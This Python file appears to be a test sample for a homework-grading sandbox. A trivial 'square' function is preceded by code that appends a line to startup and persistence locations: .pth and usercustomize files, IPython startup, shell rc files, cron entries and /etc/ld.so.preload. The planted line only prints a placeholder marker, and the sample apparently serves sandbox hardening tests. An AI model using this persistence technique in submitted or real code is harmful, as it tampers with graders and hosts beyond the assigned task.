# attack: plants sitecustomize, .pth files, IPython startup files and a crontab
# assignment: hw
# exercise: square
# status: ok
# score: 2
import os
import site

text = "import sys; sys.stdout.write('@MARK@')\n"
home = os.path.expanduser("~")
paths = [f"{p}/@MARK@.pth" for p in (*site.getsitepackages(), site.getusersitepackages())]
paths += [f"{p}/usercustomize.py" for p in (*site.getsitepackages(), ".", home)]
for folder in (home, "@HOME@"):
    paths.append(f"{folder}/.ipython/profile_default/startup/00-@MARK@.py")
    paths += [f"{folder}/{n}" for n in (".bashrc", ".profile", ".pdbrc", ".pythonrc")]
    paths.append(f"{folder}/.config/matplotlib/matplotlibrc")
paths += ["/etc/cron.d/@MARK@", "/var/spool/cron/crontabs/root", "/etc/ld.so.preload"]
for path in paths:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file:
            file.write(text)
    except OSError:
        pass


def square(x):
    return x * x
